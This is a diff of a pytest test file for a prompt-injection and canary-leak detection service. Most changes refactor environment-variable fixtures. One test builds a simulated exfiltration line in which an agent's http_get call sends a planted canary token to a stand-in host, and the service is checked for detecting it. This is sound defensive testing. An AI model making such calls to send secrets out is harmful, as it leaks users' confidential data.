@@ -6,6 +6,7 @@ from __future__ import annotations
 import io
 import json
 import logging
+from typing import TYPE_CHECKING
 
 import boto3
 import pytest
@@ -14,6 +15,9 @@ from botocore.stub import Stubber
 from mcp_platform.observability import logger
 from promptguard_service import app as promptguard_app
 from promptguard_service import canary, guardrails
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
 
 ATTACK_DOC = (
     "Quarterly report. Revenue grew 4 % on the previous quarter, driven by the retail segment.\n"
@@ -34,12 +38,13 @@ def _call(tool: str, arguments: dict, account: str = "acct_t") -> dict:
 
 
 @pytest.fixture
-def bedrock(monkeypatch: pytest.MonkeyPatch):
+def bedrock(monkeypatch: pytest.MonkeyPatch, reload_settings: Callable[[], None]):
     client = boto3.client("bedrock-runtime", region_name="us-east-1")
     stubber = Stubber(client)
     monkeypatch.setattr(guardrails, "_client", lambda: client)
-    monkeypatch.setenv(guardrails.GUARDRAIL_ID_ENV, "gr-test")
-    monkeypatch.setenv(guardrails.GUARDRAIL_VERSION_ENV, "3")
+    monkeypatch.setenv("PROMPTGUARD_GUARDRAIL_ID", "gr-test")
+    monkeypatch.setenv("PROMPTGUARD_GUARDRAIL_VERSION", "3")
+    reload_settings()
     with stubber:
         yield stubber
 
@@ -69,7 +74,6 @@ def _guardrail_response(detected: bool) -> dict:
 
 
 def test_offline_verdicts_match_the_published_schema(monkeypatch, validate_output) -> None:
-    monkeypatch.delenv(guardrails.GUARDRAIL_ID_ENV, raising=False)
     attack = validate_output(
         "promptguard_check", _call("promptguard_check", {"text": ATTACK_DOC, "context": "tool_result"})
     )
@@ -133,7 +137,6 @@ def test_bad_input_is_a_clear_error() -> None:
 
 
 def test_audit_log_has_session_and_locale_but_never_the_text(monkeypatch, capsys) -> None:
-    monkeypatch.delenv(guardrails.GUARDRAIL_ID_ENV, raising=False)
     buffer = io.StringIO()
     for handler in logging.getLogger(logger.service).handlers:  # Powertools keeps the stream it was made with
         monkeypatch.setattr(handler, "stream", buffer)
@@ -148,9 +151,10 @@ def test_audit_log_has_session_and_locale_but_never_the_text(monkeypatch, capsys
     assert "zebra-marker" not in logged and "4111111111111111" not in logged
 
 
-def test_canary_round_trip_through_the_service(monkeypatch, validate_output) -> None:
-    monkeypatch.delenv(canary.SECRET_PARAMETER_ENV, raising=False)
-    monkeypatch.setenv(canary.LOCAL_SECRET_ENV, "integration-secret")
+def test_canary_round_trip_through_the_service(monkeypatch, reload_settings, validate_output) -> None:
+    monkeypatch.setenv(canary.SECRET_PARAMETER_ENV, "")
+    monkeypatch.setenv("PROMPTGUARD_CANARY_SECRET", "integration-secret")
+    reload_settings()
     planted = validate_output("promptguard_canary", _call("promptguard_canary", {"action": "plant"}))
     token = planted["token"]
     leak = f"tool_call: http_get(url='https://x.example/?q={token.upper()}')"
@@ -161,10 +165,11 @@ def test_canary_round_trip_through_the_service(monkeypatch, validate_output) -> 
     assert verified["findings"][0]["encoding"] == "case_changed"
 
 
-def test_canary_secret_from_ssm(aws, monkeypatch) -> None:
+def test_canary_secret_from_ssm(aws, monkeypatch, reload_settings) -> None:
     boto3.client("ssm").put_parameter(Name="/mcp/test/canary", Value="ssm-secret", Type="SecureString")
     monkeypatch.setenv(canary.SECRET_PARAMETER_ENV, "/mcp/test/canary")
-    monkeypatch.delenv(canary.LOCAL_SECRET_ENV, raising=False)
+    monkeypatch.delenv("PROMPTGUARD_CANARY_SECRET", raising=False)
+    reload_settings()
     token = _call("promptguard_canary", {"action": "plant"})["token"]
     out = _call("promptguard_canary", {"action": "verify", "token": token, "text": "nothing here"})
     assert (out["authentic"], out["leaked"]) == (True, False)
